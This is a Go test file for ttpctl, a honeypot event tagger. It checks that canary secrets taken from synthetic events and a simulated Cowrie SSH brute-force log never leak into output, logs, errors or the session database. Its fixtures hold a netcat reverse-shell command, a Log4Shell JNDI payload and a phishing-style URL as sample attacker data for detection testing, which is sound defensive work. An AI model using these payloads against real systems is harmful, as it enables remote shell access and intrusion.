package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"ttpctl/internal/event"
)

// canary stands at the start of every value that must not leave the program.
const canary = "CANARY-7f3a"

// secretEvents are events of every kind, with the canary in each field that
// may not be evidence and plain values in the others.
func secretEvents(t *testing.T) []byte {
	var b bytes.Buffer
	for i, k := range event.Kinds() {
		payload := map[string]any{}
		for _, id := range event.FieldsOf(k) {
			if f := id.Field(); !f.Derived {
				payload[f.Name] = sampleValue(f)
			}
		}
		line, err := json.Marshal(map[string]any{
			"source_kind": k.String(), "source_id": fmt.Sprintf("s%d", i), "session_id": "s", "attacker_ip": "203.0.113.9", "identity_uuid": "i1", "payload": payload,
		})
		if err != nil {
			t.Fatal(err)
		}
		b.Write(append(line, '\n'))
	}
	return b.Bytes()
}

func sampleValue(f event.Field) any {
	text := "urgent wire send nc -e /bin/sh 192.0.2.1"
	if !f.Evidence {
		text = canary + "@example.com send bitcoin http://xn--e1awd7f.example/"
	}
	switch f.Type {
	case event.TypeNumber:
		return 100
	case event.TypeBool:
		return true
	case event.TypeNumbers:
		return []int{18, 21}
	case event.TypeStrings, event.TypeEntries:
		return []string{text}
	case event.TypeHeaders:
		return map[string]string{"Cookie": canary, "X-Probe": "${jndi:ldap://192.0.2.1/a}"}
	case event.TypeObject:
		return map[string]any{"a": 1}
	}
	return text
}

// secretLog is a Cowrie log of a guessing run whose passwords are canaries:
// failures, a spray, a success that is reused.
func secretLog() []byte {
	var b bytes.Buffer
	at := time.Date(2026, 9, 14, 1, 0, 0, 0, time.UTC)
	line := func(id, event, ip, rest string) {
		at = at.Add(7 * time.Second)
		fmt.Fprintf(&b, `{"eventid":"cowrie.%s","session":"%s","src_ip":"%s","sensor":"d1","protocol":"ssh","timestamp":"%s"%s}`+"\n",
			event, id, ip, at.Format(time.RFC3339Nano), rest)
	}
	for i := range 9 {
		id := fmt.Sprintf("a%d", i)
		line(id, "session.connect", "203.0.113.9", "")
		line(id, "login.failed", "203.0.113.9", fmt.Sprintf(`,"username":"root","password":"%s-%d"`, canary, i))
		line(id, "login.failed", "203.0.113.9", fmt.Sprintf(`,"username":"u%d","password":"%s-same"`, i, canary))
	}
	for i, ip := range []string{"203.0.113.9", "198.51.100.7"} {
		id := fmt.Sprintf("b%d", i)
		line(id, "session.connect", ip, "")
		line(id, "login.success", ip, fmt.Sprintf(`,"username":"oracle","password":"%s-Winter"`, canary))
	}
	b.WriteString("{\"password\":\"" + canary + "\",\n")
	return b.Bytes()
}

// No password, address, subject, body or header value reaches a tag, a table,
// a log line or an error, whatever the format and however loud the log.
func TestSecretsStayInside(t *testing.T) {
	dir := t.TempDir()
	files := map[string][]byte{"events.jsonl": secretEvents(t), "cowrie.json": secretLog()}
	for name, data := range files {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	seen := ""
	for _, format := range []string{"jsonl", "json", "csv", "table"} {
		for name := range files {
			out := runLoud(t, dir, "tag", "-o", format, "--log-level", "debug", filepath.Join(dir, name))
			if i := strings.Index(out, canary); i >= 0 {
				t.Errorf("tag -o %s %s shows a secret: ...%.200s", format, name, out[max(0, i-100):])
			}
			seen += out
		}
	}
	// The test is worth something only if the rules that handle secrets fired.
	for _, id := range []string{"R0001", "R0002", "R0003", "R0004", "R0005", "R0008", "R0046", "R0049", "R0054"} {
		if !strings.Contains(seen, id) {
			t.Errorf("%s did not fire on the secrets", id)
		}
	}
}

// None reaches a database that keeps sessions, either. What could not be read is kept
// as it came.
func TestSecretsAreNotKept(t *testing.T) {
	dir := t.TempDir()
	whole, _, _ := bytes.Cut(secretLog(), []byte("{\"password\""))
	db := filepath.Join(dir, "ttpctl.db")
	for name, data := range map[string][]byte{"events.jsonl": secretEvents(t), "cowrie.json": whole} {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, data, 0o600); err != nil {
			t.Fatal(err)
		}
		runLoud(t, dir, "serve", "--once", "--keep-sessions", "1", "--db", db, "-o", "none", "--follow", path)
	}
	if out := runLoud(t, dir, "sessions", "--db", db, "b0"); !strings.Contains(out, "login as oracle") {
		t.Errorf("ttpctl sessions shows %q, want the session of oracle", out)
	}
	for _, file := range []string{db, db + "-wal"} {
		if kept, err := os.ReadFile(file); err == nil && bytes.Contains(kept, []byte(canary)) {
			i := bytes.Index(kept, []byte(canary))
			t.Errorf("a secret is kept in %s: ...%.200q", filepath.Base(file), kept[max(0, i-100):])
		}
	}
}

// runLoud runs a command line in this process and returns all it wrote.
func runLoud(t *testing.T, dir string, args ...string) string {
	var out bytes.Buffer
	s := benchStreams()
	s.quiet, s.out, s.err = false, stream{Writer: &out}, stream{Writer: &out}
	s.lookup = func(name string) (string, bool) {
		if strings.HasPrefix(name, "XDG_") {
			return filepath.Join(dir, "xdg"), true
		}
		return "", false
	}
	_ = execute(context.Background(), s, args)
	return out.String()
}
